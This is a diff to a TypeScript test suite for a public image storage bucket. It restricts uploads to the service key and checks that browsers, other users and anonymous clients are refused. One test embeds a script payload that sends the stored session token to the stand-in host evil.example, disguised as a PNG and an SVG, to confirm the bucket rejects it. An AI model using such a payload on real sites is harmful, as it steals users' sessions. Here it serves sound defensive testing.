@@ -31,7 +31,7 @@ async function objectsIn(folder: string): Promise<string[]> {
   return data.map((o) => o.name.split("/").pop()!).sort();
 }
 
-describe("storage: the public images bucket", () => {
+describe("storage: the public images bucket, written only by edge functions", () => {
   const bytes = pngBytes();
   let path: string;
 
@@ -39,8 +39,8 @@ describe("storage: the public images bucket", () => {
     path = `${alice.id}/a.png`;
   });
 
-  test("the owner uploads under images/<her id>/", async () => {
-    const uploaded = ok(await images(alice).upload(path, bytes, { contentType: "image/png" }));
+  test("the secret key (generate-image) stores an image under images/<user id>/", async () => {
+    const uploaded = ok(await images(serviceClient()).upload(path, bytes, { contentType: "image/png" }));
     expect(uploaded.path).toBe(path);
     expect(await objectsIn(alice.id)).toEqual(["a.png"]);
   });
@@ -61,58 +61,53 @@ describe("storage: the public images bucket", () => {
     expect(Buffer.compare(Buffer.from(await blob.arrayBuffer()), Buffer.from(bytes))).toBe(0);
   });
 
-  test("uploading the same path again without upsert is refused", async () => {
-    expectError(await images(alice).upload(path, pngBytes(), { contentType: "image/png" }));
-  });
-
-  test("bob cannot upload into alice's folder", async () => {
+  test("the browser cannot upload, not even into the user's own folder (an HTML page named .png included)", async () => {
+    const page = new TextEncoder().encode("<script>fetch('https://evil.example/?'+localStorage.getItem('sb'))</script>");
+    expectError(await images(alice).upload(`${alice.id}/x.png`, page, { contentType: "image/png" }));
+    expectError(await images(alice).upload(`${alice.id}/x.svg`, page, { contentType: "image/svg+xml" }));
+    expectError(await images(alice).upload(`${alice.id}/real.png`, pngBytes(), { contentType: "image/png" }));
     expectError(await images(bob).upload(`${alice.id}/planted.png`, pngBytes(), { contentType: "image/png" }));
-    expect(await objectsIn(alice.id)).toEqual(["a.png"]);
-  });
-
-  test("anon cannot upload", async () => {
     expectError(await images(anonClient()).upload(`${alice.id}/anon.png`, pngBytes(), { contentType: "image/png" }));
     expectError(await images(anonClient()).upload(`anon.png`, pngBytes(), { contentType: "image/png" }));
     expect(await objectsIn(alice.id)).toEqual(["a.png"]);
+    expect((await fetch(images(anonClient()).getPublicUrl(`${alice.id}/x.png`).data.publicUrl)).status).not.toBe(200);
   });
 
-  test("nobody uploads outside a folder named by their id", async () => {
-    expectError(await images(alice).upload(`a-root.png`, pngBytes(), { contentType: "image/png" }));
-    expectError(await images(alice).upload(`elsewhere/${alice.id}/a.png`, pngBytes(), { contentType: "image/png" }));
-  });
-
-  test("only images are accepted", async () => {
-    expectError(await images(alice).upload(`${alice.id}/notes.txt`, new TextEncoder().encode("hello"), { contentType: "text/plain" }));
-    expect(await objectsIn(alice.id)).toEqual(["a.png"]);
-  });
-
-  test("bob and anon cannot remove or overwrite alice's image", async () => {
-    const removed = await images(bob).remove([path]);
-    expectRefusedOrEmpty(removed);
-    expectRefusedOrEmpty(await images(anonClient()).remove([path]));
+  test("nobody but the secret key replaces an image (upsert), the owner included", async () => {
+    expectError(await images(alice).upload(path, pngBytes(), { contentType: "image/png", upsert: true }));
     expectError(await images(bob).upload(path, pngBytes(), { contentType: "image/png", upsert: true }));
     const body = new Uint8Array(await (await fetch(images(anonClient()).getPublicUrl(path).data.publicUrl)).arrayBuffer());
     expect(Buffer.compare(Buffer.from(body), Buffer.from(bytes))).toBe(0);
   });
 
-  test("the secret key (edge functions) writes anywhere in the bucket", async () => {
-    ok(await images(serviceClient()).upload(`${bob.id}/generated.png`, pngBytes(), { contentType: "image/png" }));
-    expect(await objectsIn(bob.id)).toEqual(["generated.png"]);
+  test("the bucket itself refuses what is not an image, and files over 10 MiB, even from the secret key", async () => {
+    expectError(
+      await images(serviceClient()).upload(`${bob.id}/notes.txt`, new TextEncoder().encode("hello"), { contentType: "text/plain" }),
+    );
+    expectError(
+      await images(serviceClient()).upload(`${bob.id}/page.html`, new TextEncoder().encode("<p>x</p>"), { contentType: "text/html" }),
+    );
+    const tooBig = new Uint8Array(10 * 1024 * 1024 + 1);
+    tooBig.set(pngBytes().subarray(0, 8));
+    expectError(await images(serviceClient()).upload(`${bob.id}/big.png`, tooBig, { contentType: "image/png" }));
+    expect(await objectsIn(bob.id)).toEqual([]);
   });
 
-  // Storage's remove and upsert filter by name, so PostgreSQL also applies
-  // SELECT policies: without the owner's SELECT policy a removed image would
+  test("bob and anon cannot remove alice's image", async () => {
+    expectRefusedOrEmpty(await images(bob).remove([path]));
+    expectRefusedOrEmpty(await images(anonClient()).remove([path]));
+    expect(await objectsIn(alice.id)).toEqual(["a.png"]);
+  });
+
+  // Storage's remove filters by name, so PostgreSQL also applies SELECT
+  // policies: without the owner's SELECT policy a removed image would
   // silently stay public.
-  test("the owner can remove her own image", async () => {
+  test("the owner can remove her own image (the image library deletes files)", async () => {
     const victim = `${alice.id}/to-remove.png`;
-    ok(await images(alice).upload(victim, pngBytes(), { contentType: "image/png" }));
+    ok(await images(serviceClient()).upload(victim, pngBytes(), { contentType: "image/png" }));
     const removed = ok(await images(alice).remove([victim]));
     expect(removed).toHaveLength(1);
     expect(await objectsIn(alice.id)).not.toContain("to-remove.png");
-  });
-
-  test("the owner can replace her own image (upsert)", async () => {
-    ok(await images(alice).upload(path, pngBytes(), { contentType: "image/png", upsert: true }));
   });
 });
 
